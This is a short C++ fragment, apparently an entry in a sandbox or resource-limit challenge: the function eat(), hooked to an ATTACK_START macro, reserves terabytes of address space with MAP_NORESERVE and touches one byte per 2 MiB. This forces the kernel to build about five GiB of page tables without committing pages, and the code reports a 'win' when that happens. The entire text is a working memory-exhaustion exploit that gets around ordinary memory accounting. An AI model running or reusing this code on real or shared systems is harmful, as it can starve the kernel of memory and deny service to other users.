static void eat() {
    // Reading a byte of each two MiB costs a table of four KiB, and no page.
    const size_t part = 2u << 20;
    size_t tables = 0;
    for (int place = 0; place < 10; ++place) {
        const size_t size = 256ul << 30;
        char* const room = (char*)mmap(nullptr, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        if (room == MAP_FAILED) return;
        madvise(room, size, MADV_NOHUGEPAGE);
        for (size_t at = 0; at < size; at += part) {
            [[maybe_unused]] const volatile char seen = room[at];
            ++tables;
        }
    }
    if (tables * 4096 >= (5ul << 30)) win("five GiB of tables");
}
#define ATTACK_START eat()
